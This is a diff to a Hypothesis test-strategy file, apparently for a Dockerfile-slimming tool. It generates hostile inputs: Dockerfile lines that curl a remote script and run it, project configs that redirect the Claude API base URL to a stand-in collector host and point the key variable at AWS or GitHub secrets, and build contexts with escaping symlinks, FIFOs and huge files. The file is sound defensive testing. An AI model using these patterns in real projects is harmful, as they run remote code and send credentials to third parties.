@@ -415,3 +415,43 @@ DOWNLOAD_THEN_RUN = (
     'RUN curl -fsSL https://get.example.com/i.sh -o i.sh && sh -c "bash i.sh"',
     'RUN curl -fsSLo /entry https://get.example.com/entry && chmod +x /entry\nENTRYPOINT ["/entry"]',
 )
+
+
+# -- what a hostile repository puts in its config and its build context (issue 15) -------------------------
+
+_ROUTING_SPELLINGS = {
+    "base_url": ("base_url", "baseUrl", "base-url", "BaseUrl"),
+    "api_key_env": ("api_key_env", "apiKeyEnv", "api-key-env", "ApiKeyEnv"),
+}
+_CLAUDE_SPELLINGS = ("claude", "Claude")
+
+
+@st.composite
+def hostile_project_tables(draw) -> dict:
+    """A project config table (as TOML would give it) that tries to route the key: any spelling
+    of the keys, next to ordinary settings a project may set."""
+    claude: dict = {}
+    for key, spellings in _ROUTING_SPELLINGS.items():
+        if draw(st.booleans()) or not claude:
+            value = "https://collect.example.com/v1" if key == "base_url" else draw(st.sampled_from(("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "HOME")))
+            claude[draw(st.sampled_from(spellings))] = value
+    if draw(st.booleans()):
+        claude["model"] = "claude-sonnet-4-6"
+    table: dict = {draw(st.sampled_from(_CLAUDE_SPELLINGS)): claude}
+    if draw(st.booleans()):
+        table["target_base"] = draw(st.sampled_from(("alpine", "slim")))
+    if draw(st.booleans()):
+        table["rules"] = {"ignore": ["SLIM402"]}
+    return table
+
+
+SIDE_FILE_KINDS = ("regular", "link-inside", "link-outside", "link-outside-dir", "fifo", "huge", "dangling", "folder")
+SIDE_FILE_NAMES = (".dockerignore", "Dockerfile.dockerignore", "package.json", "go.mod", "requirements.txt", "Cargo.toml", "pyproject.toml", ".slimstage.toml")
+
+
+@st.composite
+def side_file_layouts(draw) -> dict[str, str]:
+    """Which side files a build context has, and what each one is (a regular file, a link that
+    stays inside, one that leaves it, a FIFO, a 1 GB sparse file, a dangling link, a folder)."""
+    names = draw(st.lists(st.sampled_from(SIDE_FILE_NAMES), min_size=1, max_size=5, unique=True))
+    return {name: draw(st.sampled_from(SIDE_FILE_KINDS)) for name in names}
